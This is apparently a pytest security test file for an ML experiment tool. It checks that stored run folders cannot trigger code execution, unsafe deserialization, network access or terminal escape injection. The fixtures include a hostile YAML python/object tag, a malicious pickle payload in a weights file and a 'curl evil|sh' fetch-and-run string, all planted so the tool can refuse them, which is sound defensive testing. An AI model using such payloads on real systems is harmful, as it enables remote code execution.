"""Nothing that is read from a folder is executed, and nothing is written outside runs/."""

import ast
import json
import shutil
from pathlib import Path

import pytest

import bnlab
from tests.conftest import QUICK, Cli, files_below
from tests.report import stored
from tests.store.attack import ESCAPE
from tests.store.hostile import unseal

SOURCES = sorted(Path(bnlab.__file__).parent.rglob("*.py"))
RECORDED = Path(bnlab.__file__).parent / "engine" / "kernels.py"
SENT = Path(bnlab.__file__).parent / "hydra_bridge" / "on_workers.py"
MENDING = Path(bnlab.__file__).parent / "verification" / "lines.py"
UNSAFE = ("eval", "exec", "instantiate", "unsafe_load", "full_load", "load_pickle", "read_pickle", "Unpickler")


def calls(source: Path) -> list[tuple[str, ast.Call]]:
    """Every call with the dotted name of what is called."""
    nodes = [node for node in ast.walk(ast.parse(source.read_text(encoding="utf-8"))) if isinstance(node, ast.Call)]
    return [(ast.unparse(node.func), node) for node in nodes]


@pytest.mark.parametrize("source", SOURCES, ids=lambda path: path.stem)
def test_no_unsafe_reader(source: Path) -> None:
    for name, call in calls(source):
        if source == MENDING and name == "exec":
            continue  # the user's class with a line mended: the user has asked for that class to be run
        assert name.rpartition(".")[2] not in UNSAFE or name.endswith(".eval"), ast.unparse(call)
        if name == "torch.load":
            assert "weights_only=True" in ast.unparse(call)
        # Launchers send jobs to their processes as pickles: what one launch has made, and no file.
        assert not name.startswith("pickle.") or source == SENT, ast.unparse(call)
        if name == "yaml.load":
            assert "safe" in ast.unparse(call).lower(), ast.unparse(call)


def test_what_is_executed_of_a_recording_comes_from_no_file() -> None:
    called = {name.rpartition(".")[2] for name, _ in calls(RECORDED)}
    assert "define" in called
    assert not called & {"open", "read", "read_text", "read_bytes", "load", "loads", "getenv", "input"}


def test_a_target_in_a_run_folder_is_only_text(cli: Cli, tmp_path: Path) -> None:
    for seed, name in enumerate(("none", "batch")):
        run = stored.arm(tmp_path / "runs", name, [0.8, 0.9])
        with (run / "config.yaml").open("a") as file:
            file.write(f"engine:\n  _target_: os.mkdir\n  path: {tmp_path}/executed{seed}\n")
    evil = stored.run(tmp_path / "runs", "evil")
    stored.replicate(evil, 0, 0.9)
    (evil / "config.yaml").write_text(f"a: !!python/object/apply:os.mkdir ['{tmp_path}/executed']\n")
    (evil / "seed-0" / "weights.pt").write_bytes(b"cos\nmkdir\n(S'executed'\ntR.")
    before = files_below(tmp_path)
    assert cli("report", "--by", "norm.name").code == 0
    for command in (["runs"], ["runs", "show", "evil"], ["runs", "show", "batch"]):
        assert cli(*command).code == 0
    answer = cli("evaluate", "evil")
    assert answer.code == 2
    assert "evil-0a cannot be evaluated: config.yaml is damaged: it has the tag tag:yaml.org" in answer.err
    assert files_below(tmp_path) - {"runs/.looks.jsonl"} == before


def test_weights_with_code_in_them_are_refused(cli: Cli, tmp_path: Path) -> None:
    assert cli("train", *QUICK, "norm=none", "keep_checkpoint=true").code == 0
    (weights,) = tmp_path.rglob("weights.pt")
    unseal(weights.parent)
    weights.write_bytes(b"cos\nmkdir\n(S'executed'\ntR.")
    answer = cli("evaluate", "none")
    assert answer.code == 2
    assert "does not hold this run's weights" in answer.err
    assert not (tmp_path / "executed").exists()


def test_only_the_runs_folder_and_the_cache_are_written(cli: Cli, tmp_path: Path) -> None:
    assert cli("train", *QUICK, "label=mine", "runs_dir=deep/inside").code == 0
    assert {name.split("/")[0] for name in files_below(tmp_path)} == {"deep"}


@pytest.mark.parametrize("target", ["runs.lib.mod:Cls", "runs/lib/mod.py:Cls"])
def test_a_class_that_a_configuration_names_is_not_looked_for(
    target: str, cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cause: the package runs/lib was imported on the way to the module, before the target was refused."""
    monkeypatch.syspath_prepend(tmp_path)
    for lr, name in ((0.001, "c-1"), (0.01, "c-2")):
        norm = f"  target: {target}\n  kwargs: {{}}\n  digest: null\n"
        stored.arm(tmp_path / "runs", "custom_class", [0.8, 0.9], folder=name, norm=norm, lr=lr)
        (tmp_path / "runs" / name / "seed-0" / "weights.pt").write_bytes(b"")
    (tmp_path / "runs" / "lib").mkdir()
    for file in ("__init__.py", "mod.py"):
        (tmp_path / "runs" / "lib" / file).write_text("open('executed', 'w')\nclass Cls: pass\n")
    before = files_below(tmp_path)
    for command in ("runs", "runs show c-1", "runs diff c-1 c-2", "runs check", "report", "runs export -"):
        assert cli(*command.split()).code == 0, command
    answer = cli("evaluate", "c-1")
    assert (answer.code, answer.out) == (2, "")
    assert answer.err == f"error: c-1 needs code to be run: add norm.target={target} if you trust it\n"
    assert files_below(tmp_path) - {"runs/.looks.jsonl"} == before


def test_where_data_lie_is_said_by_the_command_line_only(
    trained: Path, cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cause: evaluate made the data.root of a received config.yaml, and with its data.download went to the network."""
    run = shutil.copytree(next(trained.glob("none-*")), tmp_path / "runs" / "c-1")
    for replicate in run.glob("seed-*"):
        unseal(replicate)
    config = run / "config.yaml"
    config.write_text(config.read_text().replace("data:\n", f"data:\n  root: {tmp_path}/made\n  download: true\n", 1))
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("it went to the network"))
    before = files_below(tmp_path)
    assert cli("evaluate", "c-1", "threads=1").code == 0
    config.write_text(config.read_text().replace("name: mnist", "name: kmnist", 1))
    answer = cli("evaluate", "c-1", "threads=1")
    assert answer.code == 2
    assert "kmnist: no " in answer.err
    assert files_below(tmp_path) == before
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ("runs",),
        ("runs", "show", "stranger"),
        ("runs", "check"),
        ("report", "--by", "norm.name"),
        ("evaluate", "stranger"),
    ],
    ids=" ".join,
)
def test_nothing_that_a_terminal_acts_on_is_printed_of_what_is_stored(
    arguments: tuple[str, ...], cli: Cli, tmp_path: Path
) -> None:
    """Cause: ESC and OSC of names, values, errors and commands reached it, and so did "to resume: curl evil|sh"."""
    runs = tmp_path / "runs"
    for folder in ("stranger", f"other{ESCAPE}"):
        run = stored.run(runs, f"batch{ESCAPE}", folder=folder, lr=json.dumps(ESCAPE))
        environment = stored.ENVIRONMENT | {"torch": ESCAPE, ESCAPE: ESCAPE}
        for seed, state in enumerate(("done", "done", "diverged", "failed", "interrupted")):
            stored.replicate(
                run, seed, 0.9, state=state, error=ESCAPE, command=f"bnlab train{ESCAPE}", environment=environment
            )
        (run / "tags.json").write_text(json.dumps({"tags": ["a"], "note": ""}))
    answer = cli(*arguments)
    assert answer.code in (0, 1, 2)
    text = answer.out + answer.err
    assert text
    assert not [character for character in text if character != "\n" and not character.isprintable()]
    assert not [line for line in text.splitlines() if line.startswith(("to resume: curl", "evil"))]
